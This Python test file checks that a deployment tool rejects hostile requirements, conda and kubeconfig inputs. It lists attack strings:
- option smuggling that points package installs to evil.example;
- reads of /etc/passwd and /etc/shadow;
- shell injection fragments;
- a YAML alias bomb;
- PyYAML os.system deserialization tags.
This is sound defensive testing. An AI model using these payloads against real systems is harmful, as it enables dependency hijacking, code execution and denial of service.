"""Malicious requirements files, conda files and kubeconfigs: rejected quickly, with a clear message."""

import os
import signal
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from types import FrameType

import pytest

from mms.engines import kubeconfig
from mms.engines.base import EngineRefusedError
from mms.images.plan.requirements import RequirementsError, parse, parse_conda
from mms.services.engine import engine_for
from netguard import safe_yaml

SECONDS = 5

# Nine aliases in each line, nine times as much with every line: written out, this is 9^12 values.
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + at)}: &{chr(98 + at)} [{', '.join(['*' + chr(97 + at)] * 9)}]\n" for at in range(12)
)
MERGES = "a: &a {x: 1}\n" + "".join(
    f"{chr(98 + at)}: &{chr(98 + at)} {{<<: [{', '.join(['*' + chr(97 + at)] * 9)}]}}\n" for at in range(12)
)

REQUIREMENTS = [
    # unusual line ends, after which uv would read an option
    *(
        f"numpy; os_name == 'x{end}--index-url https://evil.example'"
        for end in "\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
    ),
    *(f"numpy{end}--index-url https://evil.example" for end in "\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\0"),
    "numpy \\\r\n--index-url https://evil.example",
    "numpy \\\n\n--index-url https://evil.example",
    "numpy; os_name == '\0'",
    # variables, paths and URLs that uv would resolve
    "numpy===${SECRET_KEY}",
    "numpy===$SECRET_KEY",
    "numpy; os_name == '${SECRET_KEY}'",
    "numpy===/etc/passwd",
    "numpy===../../etc/passwd",
    "numpy===file:///etc/passwd",
    "numpy===x@evil",
    "numpy @ ${HOME}/x.whl",
    "numpy@https://evil.example/x.whl",
    "numpy[x]@file:/etc/passwd",
    "numpy @ ../x.whl ; python_version > '3'",
    "numpy; os_name == '`id`'",
    "numpy; os_name == '|sh'",
    "numpy===1\\",
    "-r https://evil.example/requirements.txt",
    "\ufeff-r /etc/passwd",
    "\u2212-index-url=https://evil.example",
    "--index-url=https://evil.example numpy",
    "numpy --hash=sha256:aa --index-url https://evil.example",
    "numpy --hash=sha256:aa;rm",
    "numpy --hash=sha256:" + "a" * 200,
    "--requirement=/etc/shadow",
    "--constraint https://evil.example",
    "--config-settings x=y",
    "--use-feature=x",
    # lookalike names
    "num\u0440y==1",
    "numpy\u200b",
    "a[\u0430]",
    # long and deep
    "a" + " " * 250_000 + "b",
    "a" + "\t" * 250_000 + "--hash",
    "numpy==" + "9" * 200_000,
    "a; " + "(" * 900,
    "a; " + "(" * 50_000 + "os_name == 'a'" + ")" * 50_000,
    "a; " + " and ".join(["os_name == 'a'"] * 15_000),
    "a" + ">1," * 60_000 + ">1",
    "a[" + "b," * 100_000 + "b]",
    "a" + ".-_" * 80_000 + "!",
    "a==1+" + "a." * 100_000,
]

YAMLS = [
    BOMB + "dependencies: [*m]",
    BOMB + "current-context: *m\nclusters: []\ncontexts: []",
    BOMB + "clusters: [{name: *m, cluster: {server: process://local}}]",
    MERGES + "dependencies: []",
    "&a {dependencies: [*a], clusters: *a}",
    "dependencies: &a [*a]",
    *(f"x: !!{tag}" for tag in ("int ''", "float ''", "timestamp x", "bool x", "binary '%'", "set {a}", "omap [a: 1]")),
    *(f"x: !!python/{tag}" for tag in ("object/apply:os.system [id]", "name:os.system", "object:x.Y {}", "module:os")),
    "x: !include /etc/passwd",
    "x: !<tag:yaml.org,2002:python/object/new:os.system> [id]",
    "%TAG ! tag:yaml.org,2002:python/\n---\nx: !object/apply:os.system [id]",
    "x: " + "9" * 5000,
    "x: 0b_",
    "x: 2001-99-99",
    "x: 2001-01-01 99:99:99",
    "[" * 60_000,
    "{a: " * 15_000,
    "- " * 30_000 + "x",
    "? " * 30_000 + "x",
    "[" * 40 + "]" * 40,
    "[" + "[]," * 20_000 + "]",
    "--- a\n--- b",
    "%YAML 9.9\n--- a",
    "x: \0",
    "x: \x1b[2J",
    "x: \ud800",
    '"' + "\\" * 60_000,
    "!" * 60_000,
    ":" * 60_000,
    "{[a]: b}",
    "*nobody",
    "",
    "~",
    "text",
]


@contextmanager
def in_time() -> Iterator[None]:
    """Fail the enclosed block after SECONDS: a hanging parser would hang for hours."""

    def late(_: int, __: FrameType | None) -> None:
        raise AssertionError(f"not through after {SECONDS} s")

    before = signal.signal(signal.SIGALRM, late)
    signal.setitimer(signal.ITIMER_REAL, SECONDS)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)


def findings(texts: list[str], read: Callable[[str], object], refusal: type[Exception]) -> list[str]:
    """Return the texts that aren't rejected with a message of ours."""
    found = []
    for text in texts:
        began = time.monotonic()
        try:
            with in_time():
                result = read(text)
            found.append(f"{text[:60]!r} was read as {str(result)[:80]}")
        except refusal as reason:
            if not str(reason).isprintable() or len(str(reason)) > 500:
                found.append(f"{text[:60]!r} comes back in the reason: {str(reason)[:80]!r}")
        except BaseException as error:
            took = time.monotonic() - began
            found.append(f"{text[:60]!r}: {type(error).__name__}: {str(error)[:80]} after {took:.1f} s")
    return found


def test_only_names_and_versions_are_accepted_as_requirements(record: dict[str, object]) -> None:
    found = findings(REQUIREMENTS, parse, RequirementsError)
    conda = [text for text in REQUIREMENTS if text.isprintable() and len(text) < 100 and "'" not in text]
    found += findings([f"dependencies: [{{pip: ['{text}']}}]" for text in conda], _conda, RequirementsError)
    record |= {"hostile requirements": len(REQUIREMENTS) + len(conda), "findings": len(found)}
    assert not found, "\n".join(found)


def test_no_untrusted_yaml_hangs_or_constructs_objects(record: dict[str, object]) -> None:
    found = findings(YAMLS, kubeconfig.find_server, EngineRefusedError)
    found += findings([text for text in YAMLS if text], _conda, RequirementsError)
    record |= {"hostile YAML": 2 * len(YAMLS), "findings": len(found)}
    assert not found, "\n".join(found)


def _conda(text: str) -> object:
    """Parse a conda file. Treat one without requirements as rejected."""
    environment = parse_conda(text, "3.11")
    if not environment.requirements:
        raise RequirementsError("It asks for nothing.")
    return environment


def test_plain_yaml_is_parsed() -> None:
    text = "a: [1, 'two', 3.5, true, null]\nb: {c: d}\ne: |\n  line\n  line\n"
    assert safe_yaml.load(text) == {"a": [1, "two", 3.5, True, None], "b": {"c": "d"}, "e": "line\nline\n"}
    assert safe_yaml.load('{"json": {"too": []}}') == {"json": {"too": []}}


@pytest.mark.parametrize(
    "text",
    [
        "clusters: []\nclusters: []",
        "clusters: [{name: a, cluster: {server: 'process://local', server: 'https://k8s.example'}}]",
        "clusters: [{name: a, cluster: {server: 'process://local'}}, {name: a, cluster: {server: 'https://k8s'}}]",
        "clusters: [{name: a, cluster: {<<: {server: 'process://local'}}}]",
        '{"clusters": [], "clusters": []}',
        "1: a\n0x1: b",
        "? a\n? a",
    ],
)
def test_a_kubeconfig_with_duplicate_keys_is_rejected(text: str) -> None:
    with pytest.raises(EngineRefusedError, match=r"twice|two entries|merge key"):
        engine_for(text)


def test_a_conda_file_with_duplicate_keys_is_rejected() -> None:
    with pytest.raises(RequirementsError, match=r"condaEnvFile gives a key twice \(line 2\)"):
        parse_conda("dependencies: [pip]\ndependencies: [python=3.11]", "3.11")


def test_a_kubeconfig_runs_no_program_and_reads_no_file(tmp_path: Path) -> None:
    """These files are pipes without a writer: opening one of them would block forever."""
    for name in ("token", "ca", "cert", "key", "kubeconfig"):
        os.mkfifo(tmp_path / name)
    text = f"""
apiVersion: v1
kind: Config
current-context: here
contexts: [{{name: here, context: {{cluster: here, user: me}}}}]
clusters:
- name: here
  cluster: {{server: "process://local", certificate-authority: "{tmp_path}/ca"}}
users:
- name: me
  user:
    tokenFile: {tmp_path}/token
    client-certificate: {tmp_path}/cert
    client-key: {tmp_path}/key
    exec: {{apiVersion: client.authentication.k8s.io/v1, command: touch, args: ["{tmp_path}/ran"], env: []}}
    auth-provider: {{name: gcp, config: {{cmd-path: /usr/bin/touch, cmd-args: "{tmp_path}/ran"}}}}
"""
    with in_time():
        assert kubeconfig.find_server(text) == "process://local"
        engine_for(text)
    assert not (tmp_path / "ran").exists()


def test_a_rejected_server_is_named_without_secrets() -> None:
    text = 'clusters: [{name: a, cluster: {server: "https://admin:word@k8s.example:6443/x?token=word#word"}}]'
    with pytest.raises(EngineRefusedError, match=r"cannot deploy to https://k8s\.example:6443/x yet") as refusal:
        engine_for(text)
    assert "word" not in str(refusal.value)
